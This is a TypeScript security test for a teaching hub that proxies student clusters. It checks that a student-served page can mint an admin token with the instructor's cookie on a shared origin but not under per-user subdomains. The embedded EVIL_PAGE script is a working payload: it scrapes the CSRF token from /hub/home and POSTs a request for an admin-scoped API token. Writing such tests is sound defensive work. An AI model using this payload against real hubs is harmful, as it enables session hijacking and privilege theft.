/**
 * A student serves a page from their cluster and gets the instructor to open it. Its script
 * tries what the attacker did: read the hub's /hub/home for the CSRF token and mint an
 * admin token with the instructor's cookie. On a shared origin it succeeds (the documented
 * risk of `hub.userSubdomains: false`); with each student on `{login}.localhost` it cannot.
 * Real Chromium (which resolves *.localhost to loopback), the real proxy with host routing.
 */
import test from 'ava';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { request } from 'node:http';
import { launchBrowser } from './helpers/browser.ts';
import { EchoBackend } from './helpers/echo-backend.ts';
import { startTestHub, type TestHub } from './helpers/hub.ts';

/** The page a student serves: its script reports what it could do with the visitor's hub session. */
const EVIL_PAGE = `<!doctype html><title>homework</title><script>
(async () => {
  const hub = new URLSearchParams(location.search).get('hub') ?? '';
  const result = {};
  try {
    const home = await fetch(hub + '/hub/home', { credentials: 'include' });
    const csrf = /name="_csrf" value="([^"]+)"/.exec(await home.text())?.[1];
    result.readHome = Boolean(csrf);
    const made = await fetch(hub + '/hub/api/tokens', {
      method: 'POST', credentials: 'include',
      headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': csrf ?? '' },
      body: JSON.stringify({ scopes: ['admin'], note: 'stolen' }),
    });
    result.status = made.status;
    result.token = (await made.json()).token;
  } catch (err) {
    result.error = String(err);
  }
  window.result = result;
})();
</script>`;

/** Every student's "cluster" serves the evil page (a process the student controls, as its route target). */
const evilCluster = () => (req: IncomingMessage, res: ServerResponse) => {
  res.writeHead(200, { 'Content-Type': 'text/html' });
  res.end(req.url?.includes('evil.html') ? EVIL_PAGE : 'ok');
};

async function attack(hub: TestHub, pageUrl: string): Promise<{ readHome?: boolean; status?: number; token?: string; error?: string }> {
  const browser = await launchBrowser();
  try {
    const page = await browser.newPage();
    await page.goto(`${hub.publicUrl}/hub/login`);
    await page.getByLabel('GitHub login').fill('teacher');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL(/\/hub\/home$/);
    await page.goto(pageUrl);
    await page.waitForFunction('window.result !== undefined');
    return await page.evaluate('window.result') as { readHome?: boolean; status?: number; token?: string; error?: string };
  } finally {
    await browser.cleanup();
  }
}

const adminTokens = (hub: TestHub) => hub.store.listTokens('teacher').filter((r) => r.scopes.includes('admin') && r.note === 'stolen');

test.serial('shared origin (hub.userSubdomains off): the student\'s page can act as the instructor — the documented risk', async (t) => {
  const hub = await startTestHub({ backend: new EchoBackend({ handler: evilCluster }), config: { hub: { publicUrl: 'http://localhost:{port}' } } });
  t.teardown(() => hub.destroy());
  await hub.manager.launch('mallory', 1, 'mallory').done;
  const result = await attack(hub, `${hub.publicUrl}/user/mallory/evil.html`);
  t.true(result.readHome, 'the page read the hub\'s home page');
  t.is(result.status, 201);
  t.is(adminTokens(hub).length, 1, 'an admin token was made for the instructor');
});

test.serial('with hub.userSubdomains the student\'s page runs on its own origin and gets nothing from the hub', async (t) => {
  const hub = await startTestHub({ backend: new EchoBackend({ handler: evilCluster }), config: { hub: { publicUrl: 'http://localhost:{port}', userSubdomains: true } } });
  t.teardown(() => hub.destroy());
  await hub.manager.launch('Mallory', 1, 'Mallory').done;
  const port = new URL(hub.publicUrl).port;
  t.is(hub.manager.view('Mallory').url, `http://mallory.localhost:${port}/user/Mallory/`);
  t.deepEqual(Object.keys(await hub.proxy.getRoutes()).filter((p) => p !== '/'), ['/mallory.localhost/user/Mallory']);

  const result = await attack(hub, `http://mallory.localhost:${port}/user/Mallory/evil.html?hub=${encodeURIComponent(hub.publicUrl)}`);
  t.falsy(result.readHome, 'the hub\'s pages are unreadable from the student\'s origin');
  t.not(result.status, 201);
  t.truthy(result.error, `the browser blocked the page: ${JSON.stringify(result)}`);
  t.deepEqual(adminTokens(hub), [], 'no admin token was made');

  // The hub's cookie names no Domain, so it is never sent to a student's host.
  const signIn = await hub.signIn('teacher');
  t.false(signIn.cookiesFor(hub.publicUrl).length === 0);
  const login = await hub.anonymous().get('/hub/login');
  t.true(login.setCookies.every((c) => !/;\s*domain=/i.test(c)));

  // The hub never answers on a student's host: a stopped cluster's host is sent to the hub.
  const onStudentHost = await rawGet(hub.publicUrl, `nobody.localhost:${port}`, '/hub/home');
  t.is(onStudentHost.status, 302);
  t.is(onStudentHost.location, `${hub.publicUrl}/hub/home`);

  // Route repair keeps host routes and removes stale ones.
  await hub.proxy.addRoute('/ghost.localhost/user/ghost', 'http://127.0.0.1:9');
  await hub.repair();
  t.deepEqual(Object.keys(await hub.proxy.getRoutes()).filter((p) => p !== '/'), ['/mallory.localhost/user/Mallory']);
});

/** GET with an explicit Host header (fetch does not let a test choose it). */
function rawGet(base: string, host: string, path: string): Promise<{ status: number; location?: string }> {
  const url = new URL(base);
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port: url.port, path, headers: { Host: host } }, (res) => {
      res.resume();
      res.on('end', () => resolve({ status: res.statusCode ?? 0, location: res.headers.location }));
    });
    req.on('error', reject);
    req.end();
  });
}
